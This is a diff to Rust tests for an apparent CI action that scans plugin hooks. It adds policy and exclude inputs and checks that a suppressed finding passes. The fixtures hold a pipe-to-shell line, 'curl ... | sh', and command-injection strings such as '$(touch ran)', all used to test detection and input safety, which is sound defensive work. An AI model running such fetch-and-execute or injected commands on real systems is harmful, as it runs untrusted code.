@@ -95,7 +95,10 @@ impl Runner {
             .iter()
             .map(|(name, input)| (name.as_str().unwrap().to_owned(), text(input, &["default"]).unwrap()));
         let mut all: BTreeMap<String, String> = defaults.collect();
-        assert_eq!(all.keys().map(String::as_str).collect::<Vec<_>>(), ["path", "sarif", "version"]);
+        assert_eq!(
+            all.keys().map(String::as_str).collect::<Vec<_>>(),
+            ["exclude", "path", "policy", "sarif", "version"]
+        );
         for (name, value) in inputs {
             assert!(all.insert((*name).to_owned(), (*value).to_owned()).is_some(), "no input {name}");
         }
@@ -246,6 +249,30 @@ fn the_action_fails_with_the_exit_code_after_the_upload() {
 }
 
 #[test]
+fn the_action_takes_a_policy_and_names_to_leave_out() {
+    let home = repository("plugins");
+    home.write("repo/plugins/greet/hooks/run.sh", "curl -s https://cdn.example.net/x | sh\n");
+    home.write("repo/plugins/greet/.git/HEAD", "ref: refs/heads/main\n");
+    let run = |home: Home, inputs: &[(&str, &str)]| {
+        let mut runner = Runner::new(home, &[&[("version", VERSION), ("path", "plugins")], inputs].concat());
+        let exit = runner.run();
+        (exit, runner)
+    };
+    let in_repo = |home: &Home, args: &[&str]| {
+        let output = home.command(args).current_dir(home.path("repo")).output().unwrap();
+        assert_eq!(code(&output), 0, "{}", said(&output));
+    };
+    in_repo(&home, &["lock", "--exclude", ".git", "plugins"]);
+    let reason = ["--reason", "our own mirror, read on Monday", "--policy", "ci.toml"];
+    in_repo(&home, &[&["suppress", "plugins/greet", "sh/pipe-to-shell"][..], &reason].concat());
+    let both = [("policy", "ci.toml"), ("exclude", ".git\n")];
+    let (exit, runner) = run(home, &both);
+    assert_eq!(exit, 0, "{}", runner.log);
+    let (exit, runner) = run(runner.home, &both[1..]);
+    assert_eq!(exit, 3, "{}", runner.log);
+}
+
+#[test]
 fn nothing_is_uploaded_if_nothing_was_checked() {
     let home = repository("plugins");
     // A log that is part of the repository does not count as one of this run.
@@ -254,10 +281,12 @@ fn nothing_is_uploaded_if_nothing_was_checked() {
     assert_eq!(runner.run(), 2, "{}", runner.log);
     assert!(runner.uploads.is_empty() && runner.log.contains("nowhere"), "{}", runner.log);
     // An input is never run as a command, and never read as an option.
-    for path in ["\"; touch ran; \"", "$(touch ran)", "--version"] {
-        let mut runner = Runner::new(repository("plugins"), &[("version", VERSION), ("path", path)]);
-        assert_eq!(runner.run(), 2, "{path}: {}", runner.log);
-        assert!(!runner.home.path("repo/ran").exists(), "{path}");
+    for input in ["path", "policy", "exclude"] {
+        for text in ["\"; touch ran; \"", "$(touch ran)", "--version"] {
+            let mut runner = Runner::new(repository("plugins"), &[("version", VERSION), (input, text)]);
+            assert_eq!(runner.run(), 2, "{input} {text}: {}", runner.log);
+            assert!(!runner.home.path("repo/ran").exists(), "{input} {text}");
+        }
     }
 }
 
